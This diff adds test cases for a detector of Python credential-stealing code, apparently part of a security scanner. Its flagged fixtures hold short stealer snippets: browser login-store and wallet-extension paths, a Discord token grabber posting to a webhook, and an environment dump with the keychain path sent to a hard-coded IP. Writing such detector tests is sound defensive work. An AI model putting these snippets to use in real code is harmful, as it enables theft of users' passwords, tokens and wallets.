@@ -1,0 +1,31 @@
+import { ruleTest } from '../../testing/rule-tester.js';
+import rule from './py-credential-theft.js';
+
+ruleTest(rule, {
+  clean: [
+    { name: 'paramiko default key paths', file: 'paramiko/client.py', code: `import os\nkeyfiles = [os.path.expanduser("~/.ssh/id_rsa"), os.path.expanduser("~/.ssh/id_ed25519")]\n` },
+    { name: 'selenium chrome binary location', file: 'driver.py', code: `CHROME = r"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"\nopts.binary_location = CHROME\n` },
+    { name: 'one MetaMask id in a dApp', file: 'app.py', code: `STORE = "https://chrome.google.com/webstore/detail/nkbihfbeogaeaoehlefnkodbefgpgknn"\n` },
+    { name: 'env printed locally', file: 'debug.py', code: `import os\nfor k, v in os.environ.items():\n    print(k, v)\n` },
+  ],
+  flagged: [
+    {
+      name: 'browser Login Data + wallets',
+      file: 'steal.py',
+      code: `import os, shutil\npaths = [os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data"), "BraveSoftware/Brave-Browser/User Data"]\nfiles = ["Login Data", "Local State"]\nwallets = ["nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa", "ibnejdfjmmkpcnlpebklmnkoeoihofec"]\n`,
+      findings: [{ line: 2, severity: 'critical', confidence: 'high', message: /browser credential stores, 3 wallet extension ids/ }],
+    },
+    {
+      name: 'discord token grabber with webhook',
+      file: 'grab.py',
+      code: `import re, requests, os\nroot = os.getenv("APPDATA") + "\\\\discord\\\\Local Storage\\\\leveldb"\ntokens = re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", data)\nrequests.post(hook, json={"content": str(tokens)})\n`,
+      findings: [{ line: 2, severity: 'high', confidence: 'medium' }],
+    },
+    {
+      name: 'env dump posted plus keychain',
+      file: 'e.py',
+      code: `import os, json, urllib.request\nk = "~/Library/Keychains/login.keychain-db"\nurllib.request.urlopen("http://1.2.3.9/e", json.dumps(dict(os.environ)).encode())\n`,
+      findings: [{ line: 2, severity: 'critical', message: /macOS keychain, environment dump/ }],
+    },
+  ],
+});
